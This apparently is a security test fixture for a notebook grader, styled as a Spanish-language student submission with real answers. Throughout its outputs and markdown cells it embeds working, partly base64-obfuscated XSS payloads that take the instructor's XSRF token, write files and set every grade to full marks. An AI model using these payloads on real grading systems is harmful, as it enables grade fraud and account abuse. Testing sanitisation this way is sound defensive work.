# Written answers and outputs that try to run as the instructor in formgrader,
# feedback and the class report (tests/test_formgrader.py). Each
# payload sets document.title, PUTs a file through /api/contents and full marks
# through /formgrader/api/grade.
# %% p1_e1_solution
def zero_pad(X, pad):
    widths = ((0, 0), (pad, pad), (pad, pad), (0, 0))
    X_pad = np.pad(X, widths, mode="constant", constant_values=0)
    return X_pad


# Payloads shown as outputs (each tries to run in the instructor's browser).
from IPython.display import HTML, SVG, Javascript, Markdown, display

_JS = "(function(k){document.title='XSS '+k;document.documentElement.setAttribute('data-xss',k);var m=document.cookie.match(/_xsrf=([^;]+)/),h={'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''};fetch('/api/contents/xss_'+k+'.txt',{method:'PUT',headers:h,body:JSON.stringify({type:'file',format:'text',content:k})});fetch('/formgrader/api/grades?submission_id='+window.submission_id).then(function(r){return r.json()}).then(function(g){g.forEach(function(x){fetch('/formgrader/api/grade/'+x.id,{method:'PUT',headers:h,body:JSON.stringify({manual_score:x.max_score})})})})})('KIND')"


def _ataque(kind):
    return _JS.replace("KIND", kind)


def _enlace(kind):
    import base64
    return "javascript:eval(atob('" + base64.b64encode(_ataque(kind).encode()).decode() + "'))"


display(HTML("<b>salida html legible</b><script>" + _ataque("out-html-script") + "</script>"
             '<img src="x" onerror="' + _ataque("out-html-img") + '">'
             '<a href="' + _enlace("out-html-a-href") + '">enlace de salida</a>'))
display(Javascript(_ataque("out-javascript")))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="'
            + _ataque("out-svg-onload") + '"><script>' + _ataque("out-svg-script")
            + '</script><circle cx="10" cy="10" r="8"/></svg>'))
display(Markdown('salida markdown <img src="x" onerror="' + _ataque("out-markdown-img") + '"> '
                 '[enlace markdown de salida](' + _enlace("out-markdown-link") + ')'))
display({"text/html": '<iframe srcdoc="&lt;script&gt;parent.document.title=&quot;XSS out-isolated&quot;&lt;/script&gt;"></iframe>',
          "text/plain": "iframe"}, raw=True, metadata={"text/html": {"isolated": True}})
display({"application/javascript": _ataque("out-raw-javascript"), "text/plain": "js"}, raw=True)
# %% p1_e8_answer_q1
Respuesta legible: a 16×16 se pierde la forma del animal y una sola capa solo ve
bordes y colores; con 560 fotos la red sobreajusta. Fórmula: $x^2 + y^2$.

<script>(function(k){document.title='XSS '+k;document.documentElement.setAttribute('data-xss',k);var m=document.cookie.match(/_xsrf=([^;]+)/),h={'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''};fetch('/api/contents/xss_'+k+'.txt',{method:'PUT',headers:h,body:JSON.stringify({type:'file',format:'text',content:k})});fetch('/formgrader/api/grades?submission_id='+window.submission_id).then(function(r){return r.json()}).then(function(g){g.forEach(function(x){fetch('/formgrader/api/grade/'+x.id,{method:'PUT',headers:h,body:JSON.stringify({manual_score:x.max_score})})})})})('md-script')</script>
# %% p1_e8_answer_q2
Más resolución, más capas y aumento de datos.

<img src="x" onerror="(function(k){document.title='XSS '+k;document.documentElement.setAttribute('data-xss',k);var m=document.cookie.match(/_xsrf=([^;]+)/),h={'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''};fetch('/api/contents/xss_'+k+'.txt',{method:'PUT',headers:h,body:JSON.stringify({type:'file',format:'text',content:k})});fetch('/formgrader/api/grades?submission_id='+window.submission_id).then(function(r){return r.json()}).then(function(g){g.forEach(function(x){fetch('/formgrader/api/grade/'+x.id,{method:'PUT',headers:h,body:JSON.stringify({manual_score:x.max_score})})})})})('md-img-onerror')">
<svg width="10" height="10" onload="(function(k){document.title='XSS '+k;document.documentElement.setAttribute('data-xss',k);var m=document.cookie.match(/_xsrf=([^;]+)/),h={'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''};fetch('/api/contents/xss_'+k+'.txt',{method:'PUT',headers:h,body:JSON.stringify({type:'file',format:'text',content:k})});fetch('/formgrader/api/grades?submission_id='+window.submission_id).then(function(r){return r.json()}).then(function(g){g.forEach(function(x){fetch('/formgrader/api/grade/'+x.id,{method:'PUT',headers:h,body:JSON.stringify({manual_score:x.max_score})})})})})('md-svg-onload')"><circle r="4"/></svg>
<details open ontoggle="(function(k){document.title='XSS '+k;document.documentElement.setAttribute('data-xss',k);var m=document.cookie.match(/_xsrf=([^;]+)/),h={'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''};fetch('/api/contents/xss_'+k+'.txt',{method:'PUT',headers:h,body:JSON.stringify({type:'file',format:'text',content:k})});fetch('/formgrader/api/grades?submission_id='+window.submission_id).then(function(r){return r.json()}).then(function(g){g.forEach(function(x){fetch('/formgrader/api/grade/'+x.id,{method:'PUT',headers:h,body:JSON.stringify({manual_score:x.max_score})})})})})('md-details-ontoggle')">detalles</details>
<iframe srcdoc="&lt;script&gt;parent.eval(atob('KGZ1bmN0aW9uKGspe2RvY3VtZW50LnRpdGxlPSdYU1MgJytrO2RvY3VtZW50LmRvY3VtZW50RWxlbWVudC5zZXRBdHRyaWJ1dGUoJ2RhdGEteHNzJyxrKTt2YXIgbT1kb2N1bWVudC5jb29raWUubWF0Y2goL194c3JmPShbXjtdKykvKSxoPXsnQ29udGVudC1UeXBlJzonYXBwbGljYXRpb24vanNvbicsJ1gtWFNSRlRva2VuJzptP2RlY29kZVVSSUNvbXBvbmVudChtWzFdKTonJ307ZmV0Y2goJy9hcGkvY29udGVudHMveHNzXycraysnLnR4dCcse21ldGhvZDonUFVUJyxoZWFkZXJzOmgsYm9keTpKU09OLnN0cmluZ2lmeSh7dHlwZTonZmlsZScsZm9ybWF0Oid0ZXh0Jyxjb250ZW50Omt9KX0pO2ZldGNoKCcvZm9ybWdyYWRlci9hcGkvZ3JhZGVzP3N1Ym1pc3Npb25faWQ9Jyt3aW5kb3cuc3VibWlzc2lvbl9pZCkudGhlbihmdW5jdGlvbihyKXtyZXR1cm4gci5qc29uKCl9KS50aGVuKGZ1bmN0aW9uKGcpe2cuZm9yRWFjaChmdW5jdGlvbih4KXtmZXRjaCgnL2Zvcm1ncmFkZXIvYXBpL2dyYWRlLycreC5pZCx7bWV0aG9kOidQVVQnLGhlYWRlcnM6aCxib2R5OkpTT04uc3RyaW5naWZ5KHttYW51YWxfc2NvcmU6eC5tYXhfc2NvcmV9KX0pfSl9KX0pKCdtZC1pZnJhbWUtc3JjZG9jJyk='))&lt;/script&gt;"></iframe>
# %% p1_e8_answer_q3
Los bucles de Python son lentos; la versión vectorizada usa BLAS.

[enlace markdown](javascript:eval(atob('KGZ1bmN0aW9uKGspe2RvY3VtZW50LnRpdGxlPSdYU1MgJytrO2RvY3VtZW50LmRvY3VtZW50RWxlbWVudC5zZXRBdHRyaWJ1dGUoJ2RhdGEteHNzJyxrKTt2YXIgbT1kb2N1bWVudC5jb29raWUubWF0Y2goL194c3JmPShbXjtdKykvKSxoPXsnQ29udGVudC1UeXBlJzonYXBwbGljYXRpb24vanNvbicsJ1gtWFNSRlRva2VuJzptP2RlY29kZVVSSUNvbXBvbmVudChtWzFdKTonJ307ZmV0Y2goJy9hcGkvY29udGVudHMveHNzXycraysnLnR4dCcse21ldGhvZDonUFVUJyxoZWFkZXJzOmgsYm9keTpKU09OLnN0cmluZ2lmeSh7dHlwZTonZmlsZScsZm9ybWF0Oid0ZXh0Jyxjb250ZW50Omt9KX0pO2ZldGNoKCcvZm9ybWdyYWRlci9hcGkvZ3JhZGVzP3N1Ym1pc3Npb25faWQ9Jyt3aW5kb3cuc3VibWlzc2lvbl9pZCkudGhlbihmdW5jdGlvbihyKXtyZXR1cm4gci5qc29uKCl9KS50aGVuKGZ1bmN0aW9uKGcpe2cuZm9yRWFjaChmdW5jdGlvbih4KXtmZXRjaCgnL2Zvcm1ncmFkZXIvYXBpL2dyYWRlLycreC5pZCx7bWV0aG9kOidQVVQnLGhlYWRlcnM6aCxib2R5OkpTT04uc3RyaW5naWZ5KHttYW51YWxfc2NvcmU6eC5tYXhfc2NvcmV9KX0pfSl9KX0pKCdtZC1saW5rJyk=')))
<a href="javascript:eval(atob('KGZ1bmN0aW9uKGspe2RvY3VtZW50LnRpdGxlPSdYU1MgJytrO2RvY3VtZW50LmRvY3VtZW50RWxlbWVudC5zZXRBdHRyaWJ1dGUoJ2RhdGEteHNzJyxrKTt2YXIgbT1kb2N1bWVudC5jb29raWUubWF0Y2goL194c3JmPShbXjtdKykvKSxoPXsnQ29udGVudC1UeXBlJzonYXBwbGljYXRpb24vanNvbicsJ1gtWFNSRlRva2VuJzptP2RlY29kZVVSSUNvbXBvbmVudChtWzFdKTonJ307ZmV0Y2goJy9hcGkvY29udGVudHMveHNzXycraysnLnR4dCcse21ldGhvZDonUFVUJyxoZWFkZXJzOmgsYm9keTpKU09OLnN0cmluZ2lmeSh7dHlwZTonZmlsZScsZm9ybWF0Oid0ZXh0Jyxjb250ZW50Omt9KX0pO2ZldGNoKCcvZm9ybWdyYWRlci9hcGkvZ3JhZGVzP3N1Ym1pc3Npb25faWQ9Jyt3aW5kb3cuc3VibWlzc2lvbl9pZCkudGhlbihmdW5jdGlvbihyKXtyZXR1cm4gci5qc29uKCl9KS50aGVuKGZ1bmN0aW9uKGcpe2cuZm9yRWFjaChmdW5jdGlvbih4KXtmZXRjaCgnL2Zvcm1ncmFkZXIvYXBpL2dyYWRlLycreC5pZCx7bWV0aG9kOidQVVQnLGhlYWRlcnM6aCxib2R5OkpTT04uc3RyaW5naWZ5KHttYW51YWxfc2NvcmU6eC5tYXhfc2NvcmV9KX0pfSl9KX0pKCdtZC1hLWhyZWYnKQ=='))">enlace html</a>
<form action="javascript:eval(atob('KGZ1bmN0aW9uKGspe2RvY3VtZW50LnRpdGxlPSdYU1MgJytrO2RvY3VtZW50LmRvY3VtZW50RWxlbWVudC5zZXRBdHRyaWJ1dGUoJ2RhdGEteHNzJyxrKTt2YXIgbT1kb2N1bWVudC5jb29raWUubWF0Y2goL194c3JmPShbXjtdKykvKSxoPXsnQ29udGVudC1UeXBlJzonYXBwbGljYXRpb24vanNvbicsJ1gtWFNSRlRva2VuJzptP2RlY29kZVVSSUNvbXBvbmVudChtWzFdKTonJ307ZmV0Y2goJy9hcGkvY29udGVudHMveHNzXycraysnLnR4dCcse21ldGhvZDonUFVUJyxoZWFkZXJzOmgsYm9keTpKU09OLnN0cmluZ2lmeSh7dHlwZTonZmlsZScsZm9ybWF0Oid0ZXh0Jyxjb250ZW50Omt9KX0pO2ZldGNoKCcvZm9ybWdyYWRlci9hcGkvZ3JhZGVzP3N1Ym1pc3Npb25faWQ9Jyt3aW5kb3cuc3VibWlzc2lvbl9pZCkudGhlbihmdW5jdGlvbihyKXtyZXR1cm4gci5qc29uKCl9KS50aGVuKGZ1bmN0aW9uKGcpe2cuZm9yRWFjaChmdW5jdGlvbih4KXtmZXRjaCgnL2Zvcm1ncmFkZXIvYXBpL2dyYWRlLycreC5pZCx7bWV0aG9kOidQVVQnLGhlYWRlcnM6aCxib2R5OkpTT04uc3RyaW5naWZ5KHttYW51YWxfc2NvcmU6eC5tYXhfc2NvcmV9KX0pfSl9KX0pKCdtZC1mb3JtJyk='))"><button id="xss-form-button">enviar</button></form>
$\href{javascript:eval(atob('KGZ1bmN0aW9uKGspe2RvY3VtZW50LnRpdGxlPSdYU1MgJytrO2RvY3VtZW50LmRvY3VtZW50RWxlbWVudC5zZXRBdHRyaWJ1dGUoJ2RhdGEteHNzJyxrKTt2YXIgbT1kb2N1bWVudC5jb29raWUubWF0Y2goL194c3JmPShbXjtdKykvKSxoPXsnQ29udGVudC1UeXBlJzonYXBwbGljYXRpb24vanNvbicsJ1gtWFNSRlRva2VuJzptP2RlY29kZVVSSUNvbXBvbmVudChtWzFdKTonJ307ZmV0Y2goJy9hcGkvY29udGVudHMveHNzXycraysnLnR4dCcse21ldGhvZDonUFVUJyxoZWFkZXJzOmgsYm9keTpKU09OLnN0cmluZ2lmeSh7dHlwZTonZmlsZScsZm9ybWF0Oid0ZXh0Jyxjb250ZW50Omt9KX0pO2ZldGNoKCcvZm9ybWdyYWRlci9hcGkvZ3JhZGVzP3N1Ym1pc3Npb25faWQ9Jyt3aW5kb3cuc3VibWlzc2lvbl9pZCkudGhlbihmdW5jdGlvbihyKXtyZXR1cm4gci5qc29uKCl9KS50aGVuKGZ1bmN0aW9uKGcpe2cuZm9yRWFjaChmdW5jdGlvbih4KXtmZXRjaCgnL2Zvcm1ncmFkZXIvYXBpL2dyYWRlLycreC5pZCx7bWV0aG9kOidQVVQnLGhlYWRlcnM6aCxib2R5OkpTT04uc3RyaW5naWZ5KHttYW51YWxfc2NvcmU6eC5tYXhfc2NvcmV9KX0pfSl9KX0pKCdtZC1tYXRoamF4LWhyZWYnKQ=='))}{\text{clic}}$
